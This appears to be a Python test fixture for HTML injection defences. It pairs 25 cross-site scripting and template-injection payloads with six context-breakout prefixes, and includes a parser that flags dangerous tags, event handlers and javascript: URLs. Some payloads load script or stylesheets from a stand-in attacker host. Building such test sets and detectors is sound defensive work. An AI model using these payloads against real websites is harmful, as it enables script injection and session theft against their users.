"""A hundred and fifty texts that would be markup, script or a formula if anybody took them for it."""

from html.parser import HTMLParser

ACTS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href=javascript:alert(1)>点</a>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>发</button></form>", "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<x onclick=alert(1)>点",
    "<marquee onstart=alert(1)>", "<button formaction=javascript:alert(1)>", "{{ 7|add:7 }}{% now 'Y' %}", "${7*7}#{7*7}<%= 7*7 %>",
]  # fmt: skip
ENDS = [
    "",
    "\"'>",
    "</textarea></title>",
    "--></script></style>",
    "\u2028\u202e]]>",
    "&#34;&#39;&gt;\\x22\\u0022",
]
PAYLOADS = [end + act for act in ACTS for end in ENDS]
FORBIDDEN = {
    "iframe",
    "style",
    "object",
    "embed",
    "base",
    "math",
    "marquee",
    "template",
    "video",
    "x",
    "mglyph",
}


class Markup(HTMLParser):
    """`found`: tags and attributes that are none of ours, as a browser would read the page."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        said = dict(attrs)
        refresh = tag == "meta" and "http-equiv" in said
        if (
            tag in FORBIDDEN
            or refresh
            or (tag == "script" and "src" not in said and said.get("type") != "application/json")
        ):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip().lower().replace("\t", "")
            if name.startswith("on") or ("evil.example" in address and tag in ("script", "link", "img")):
                self.found.append(f"<{tag} {name}={value}>")
            if name in ("href", "src", "action", "formaction", "data") and address.startswith(
                ("javascript:", "data:text")
            ):
                self.found.append(f"<{tag} {name}={value}>")
